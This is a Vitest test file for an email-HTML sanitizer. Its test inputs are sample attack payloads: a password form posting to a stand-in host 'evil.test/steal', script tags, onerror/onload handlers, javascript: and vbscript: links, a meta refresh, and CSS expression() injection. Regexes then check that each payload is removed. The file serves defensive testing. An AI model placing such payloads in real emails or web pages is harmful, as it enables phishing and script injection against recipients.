import { describe, expect, it } from "vitest";
import { sanitizeEmailHtml } from "@/server/services/templates/layout";

describe("sanitizeEmailHtml (allow-list)", () => {
  it("drops forms and every form control with their content, and action/formaction anywhere", () => {
    const html = sanitizeEmailHtml(
      '<form action="https://evil.test/steal" method="post"><label>Password</label><input type="password" name="pw"><select name="s"><option>a</option></select><textarea name="t">old</textarea><button type="submit" formaction="https://evil.test/b">Go</button></form><p formaction="https://evil.test" action="x">after</p>',
    );
    expect(html).not.toMatch(/<form|<input|<button|<select|<textarea|<option|action=|evil\.test/i);
    expect(html).toContain("<p>after</p>");
  });

  it("drops scripts, frames, plugins, svg, event handlers, comments and unsafe URL schemes", () => {
    const html = sanitizeEmailHtml(
      '<p onclick="x()">Hi</p><!-- secret --><!--[if mso]><p>mso</p><![endif]--><script>alert(1)</script><iframe src="https://evil.test"></iframe><object data="x"></object><svg onload="alert(1)"><circle/></svg><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">js</a><a href="data:text/html,x">data</a><a href="vbscript:x">vb</a>',
    );
    expect(html).not.toMatch(
      /onclick|onerror|onload|<script|<iframe|<object|<svg|<!--|secret|javascript:|data:|vbscript:|alert/i,
    );
    expect(html).toContain("<p>Hi</p>");
  });

  it("drops meta refresh and script-bearing CSS but keeps layout CSS", () => {
    const html = sanitizeEmailHtml(
      '<html><head><meta http-equiv="refresh" content="0;url=https://evil.test"><style>@import url(https://evil.test/x.css); .a{width:expression(alert(1));color:red}</style></head><body><td style="background:url(javascript:alert(1));color:#111">t</td></body></html>',
    );
    expect(html).not.toMatch(/http-equiv|@import|expression\(|javascript:/i);
    expect(html).toContain("color:red");
    expect(html).toContain("color:#111");
  });

  it("keeps what an email layout is made of: tables, inline styles, images, mail links and template tags in links", () => {
    const source =
      '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="max-width:600px"><tr><td align="center" colspan="2" style="padding:8px"><img src="cid:logo" alt="Logo" width="120"><h1>Hello</h1><p><strong>Bold</strong> and <em>em</em></p><ul><li>One</li></ul><a href="{{ unsubscribe_url }}" data-no-track="">Unsubscribe</a> <a href="https://shop.example/sale?a=1&amp;b=2" target="_blank">Sale</a> <a href="mailto:help@shop.example">Mail</a></td></tr></table>';
    const html = sanitizeEmailHtml(source);
    for (const kept of [
      'role="presentation"',
      'cellpadding="0"',
      'style="max-width:600px"',
      'colspan="2"',
      'src="cid:logo"',
      "<h1>Hello</h1>",
      "<strong>Bold</strong>",
      "<li>One</li>",
      'href="{{ unsubscribe_url }}"',
      "data-no-track",
      'href="https://shop.example/sale?a=1&amp;b=2"',
      'href="mailto:help@shop.example"',
    ]) {
      expect(html).toContain(kept);
    }
  });
});
